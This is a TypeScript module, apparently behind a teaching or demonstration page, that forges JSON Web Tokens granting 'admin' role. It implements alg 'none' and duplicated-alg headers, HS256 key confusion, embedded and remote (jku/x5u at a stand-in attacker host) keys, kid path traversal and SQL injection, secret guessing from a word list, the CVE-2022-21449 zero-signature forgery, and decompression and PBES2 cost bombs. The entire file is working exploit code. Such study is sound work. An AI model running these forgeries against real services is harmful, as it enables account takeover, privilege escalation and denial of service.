import { partText, toBase64Url, toPart, utf8 } from './bytes'
import exhibits from './exhibits.json'

/** What an attacker starts from: somebody's token, and what is public. */
export interface Loot {
  token: string
  /** The service's public key as text, a PEM or a JWK; not every attack needs it. */
  publicKey: string
}

type Members = Record<string, unknown>

function objectOf(part: string | undefined): Members | undefined {
  try {
    const value: unknown = JSON.parse(partText(part ?? ''))
    return typeof value === 'object' && value !== null && !Array.isArray(value) ? (value as Members) : undefined
  } catch {
    return undefined
  }
}

/** The token's header and payload as objects; empty where it has none that can be read. */
export function readToken(token: string): { header: Members; payload: Members } {
  const [header, payload] = token.trim().split('.')
  return { header: objectOf(header) ?? {}, payload: objectOf(payload) ?? {} }
}

/** Is this a signed token in compact form, with a header and claims that an attacker can copy? */
export function isSignedToken(token: string): boolean {
  const [header, payload, ...rest] = token.trim().split('.')
  return objectOf(header) !== undefined && objectOf(payload) !== undefined && rest.length === 1
}

/** The claims with the one that makes the attack worthwhile. */
const promoted = (token: string): Members => ({ ...readToken(token).payload, role: 'admin' })

const unsigned = (header: Members, payload: Members): string =>
  `${toPart(JSON.stringify(header))}.${toPart(JSON.stringify(payload))}`

async function withHmac(input: string, secret: Uint8Array<ArrayBuffer>): Promise<string> {
  const key = await crypto.subtle.importKey('raw', secret, { name: 'HMAC', hash: 'SHA-256' }, false, ['sign'])
  return `${input}.${toBase64Url(new Uint8Array(await crypto.subtle.sign('HMAC', key, utf8(input))))}`
}

const attacker = JSON.parse(exhibits.attackerKey) as JsonWebKey & { kid: string }
/** The public half of the attacker's own key; that its private half is in this page does not matter to anybody. */
export const attackerPublicJwk = {
  kty: attacker.kty,
  n: attacker.n,
  e: attacker.e,
  kid: attacker.kid,
  alg: 'RS256',
  use: 'sig',
}

/** The same as a set, as the attacker would serve it (RFC 7517 §5). */
export const attackersSet = JSON.stringify({ keys: [attackerPublicJwk] })

async function withAttackersKey(input: string): Promise<string> {
  const algorithm = { name: 'RSASSA-PKCS1-v1_5', hash: 'SHA-256' }
  const { kty, n, e, d, p, q, dp, dq, qi } = attacker
  const key = await crypto.subtle.importKey('jwk', { kty, n, e, d, p, q, dp, dq, qi } as JsonWebKey, algorithm, false, [
    'sign',
  ])
  return `${input}.${toBase64Url(new Uint8Array(await crypto.subtle.sign(algorithm, key, utf8(input))))}`
}

/** `alg` in some spelling of none, the role raised, the signature empty (RFC 7518 §3.6). */
export const withoutSignature =
  (alg: string) =>
  async ({ token }: Loot): Promise<string> =>
    `${unsigned({ ...readToken(token).header, alg }, promoted(token))}.`

/** HS256 with the text of the public key as the secret. */
export const confused = async ({ token, publicKey }: Loot): Promise<string> =>
  withHmac(unsigned({ ...readToken(token).header, alg: 'HS256' }, promoted(token)), utf8(publicKey))

/** Signed with the attacker's key, which comes along in the header. */
export const embedded = async ({ token }: Loot): Promise<string> => {
  const { kty, n, e } = attackerPublicJwk
  return withAttackersKey(unsigned({ alg: 'RS256', typ: 'JWT', jwk: { kty, n, e } }, promoted(token)))
}

/** Where the attacker's key set (jku) or certificate (x5u) lies; nothing is fetched from there. */
export const ATTACKERS_ADDRESS = {
  jku: 'https://keys.attacker.example/jwks.json',
  x5u: 'https://keys.attacker.example/chain.pem',
}

/** Signed with the attacker's key, which the header says where to find (RFC 7515 §4.1.2, §4.1.5). */
export const pointedElsewhere =
  (member: keyof typeof ATTACKERS_ADDRESS) =>
  async ({ token }: Loot): Promise<string> => {
    const { jku: _, x5u: __, ...header } = readToken(token).header
    const moved = { ...header, alg: 'RS256', [member]: ATTACKERS_ADDRESS[member] }
    return withAttackersKey(unsigned(moved, promoted(token)))
  }

/** HMAC with the content of a file that everybody knows, named by kid. */
export const traversed = async ({ token }: Loot): Promise<string> =>
  withHmac(
    unsigned({ alg: 'HS256', typ: 'JWT', kid: '../../../../dev/null' }, promoted(token)),
    // The file is empty, and HMAC with an empty key is HMAC with a zero byte.
    new Uint8Array(1),
  )

/** HMAC with a secret that the attacker makes the database answer. */
export const injected = async ({ token }: Loot): Promise<string> =>
  withHmac(
    unsigned({ alg: 'HS256', typ: 'JWT', kid: "x' UNION SELECT 'chosen-by-mallory' -- " }, promoted(token)),
    utf8('chosen-by-mallory'),
  )

/** Tries the secrets of tutorials; undefined when none of them made the token. */
export async function guessSecret(token: string, words: readonly string[]): Promise<string | undefined> {
  const input = token.slice(0, token.lastIndexOf('.'))
  for (const word of words) if ((await withHmac(input, utf8(word))) === token) return word
  return undefined
}

/** Signed with a secret that was found in the word list. */
export const signedWith = async (token: string, secret: string): Promise<string> =>
  withHmac(unsigned(readToken(token).header, promoted(token)), utf8(secret))

/** ES256 with r = s = 0 (CVE-2022-21449). */
export const psychic = async ({ token }: Loot): Promise<string> =>
  `${unsigned({ ...readToken(token).header, alg: 'ES256' }, promoted(token))}.${toBase64Url(new Uint8Array(64))}`

/** Signed with the attacker's key under the kid that the set has. */
export const poisoned = async ({ token }: Loot): Promise<string> =>
  withAttackersKey(unsigned({ ...readToken(token).header, alg: 'RS256' }, promoted(token)))

/** A header with alg twice: who reads the first sees a signature, who reads the last sees none. */
export const doubled = async ({ token }: Loot): Promise<string> => {
  const { alg: _, ...rest } = readToken(token).header
  const others = Object.entries(rest).map(([name, value]) => `,${JSON.stringify(name)}:${JSON.stringify(value)}`)
  return `${toPart(`{"alg":"RS256"${others.join('')},"alg":"none"}`)}.${toPart(JSON.stringify(promoted(token)))}.`
}

/** Claims that nobody signed, encrypted to a public RSA key; undefined when the key is no RSA JWK. */
export async function encryptedTo(
  publicKey: string,
  plaintext: Uint8Array<ArrayBuffer>,
  more: Members = {},
): Promise<string | undefined> {
  try {
    const { kty, n, e } = JSON.parse(publicKey) as JsonWebKey
    const rsa = await crypto.subtle.importKey(
      'jwk',
      { kty, n, e } as JsonWebKey,
      { name: 'RSA-OAEP', hash: 'SHA-256' },
      false,
      ['encrypt'],
    )
    const raw = crypto.getRandomValues(new Uint8Array(16))
    const cek = await crypto.subtle.importKey('raw', raw, 'AES-GCM', false, ['encrypt'])
    const header = toPart(JSON.stringify({ alg: 'RSA-OAEP-256', enc: 'A128GCM', ...more }))
    const iv = crypto.getRandomValues(new Uint8Array(12))
    const sealed = new Uint8Array(
      await crypto.subtle.encrypt({ name: 'AES-GCM', iv, additionalData: utf8(header) }, cek, plaintext),
    )
    const wrapped = new Uint8Array(await crypto.subtle.encrypt('RSA-OAEP', rsa, raw))
    const [ciphertext, tag] = [sealed.subarray(0, -16), sealed.subarray(-16)]
    return [header, ...[wrapped, iv, ciphertext, tag].map(toBase64Url)].join('.')
  } catch {
    return undefined
  }
}

/** The promoted claims as bytes. */
export const promotedBytes = (token: string): Uint8Array<ArrayBuffer> => utf8(JSON.stringify(promoted(token)))

/** 20 MB of spaces, deflated to a few kilobytes. */
export async function bomb(): Promise<Uint8Array<ArrayBuffer>> {
  const blank = new Blob(Array.from({ length: 20 }, () => ' '.repeat(1_000_000)))
  const packed = blank.stream().pipeThrough(new CompressionStream('deflate-raw'))
  return new Uint8Array(await new Response(packed).arrayBuffer())
}

/** A password-encrypted token that asks for two billion rounds; the rest of it is noise, nobody gets that far. */
export function costBomb(): string {
  const noise = (length: number) => toBase64Url(crypto.getRandomValues(new Uint8Array(length)))
  const header = { alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2s: noise(16), p2c: 2_000_000_000 }
  return [toPart(JSON.stringify(header)), noise(24), noise(12), noise(40), noise(16)].join('.')
}
